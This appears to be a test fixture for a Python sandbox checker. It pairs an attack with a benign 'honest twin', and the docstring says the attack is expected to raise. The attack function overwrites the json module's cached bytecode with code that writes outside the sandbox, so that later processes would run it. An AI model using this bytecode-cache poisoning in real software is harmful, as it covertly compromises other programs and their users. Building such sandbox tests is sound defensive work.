"""Puts poisoned bytecode where the next process that starts would load it.

ends: raised
"""

import importlib.util
import json
import marshal
from pathlib import Path

cached = Path(importlib.util.cache_from_source(json.__file__))


def total(x):
    code = compile("open('@OUTSIDE@/attack', 'w')", json.__file__, "exec")
    cached.with_name("attack.pyc").write_bytes(bytes(16) + marshal.dumps(code))
    cached.with_name("attack.pyc").replace(cached)
    return x.sum()


# %% honest twin
"""Writes a module of its own and imports it."""

import sys
from pathlib import Path


def total(x):
    Path("sums.py").write_text("def add_up(values):\n    return values.sum()\n")
    sys.path.insert(0, str(Path.cwd()))
    from sums import add_up

    sys.path.remove(str(Path.cwd()))
    return add_up(x)
